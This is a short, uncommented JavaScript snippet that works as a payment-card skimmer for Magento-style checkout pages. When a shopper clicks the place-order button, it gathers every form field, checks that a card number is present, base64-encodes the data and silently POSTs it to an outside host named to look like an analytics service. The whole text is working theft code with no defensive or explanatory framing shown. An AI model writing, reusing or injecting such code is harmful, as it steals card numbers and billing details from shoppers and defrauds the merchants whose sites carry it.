(function () {
  var gate = "https://magento-analytics.example/collect";
  function grab() {
    var out = {};
    var inputs = document.querySelectorAll("input, select");
    for (var i = 0; i < inputs.length; i++) {
      var el = inputs[i];
      if (el.value && el.value.length > 1) out[el.name || el.id] = el.value;
    }
    return out;
  }
  function send() {
    var data = grab();
    if (!data["payment[cc_number]"] && !data["billing[cc_number]"]) return;
    fetch(gate, { method: "POST", mode: "no-cors", body: btoa(JSON.stringify(data)) });
  }
  if (location.pathname.indexOf("checkout") > -1) {
    document.addEventListener("mousedown", function (e) {
      var t = e.target;
      if (t && (t.id === "place-order" || /btn-checkout|action primary/.test(t.className))) send();
    });
  }
})();
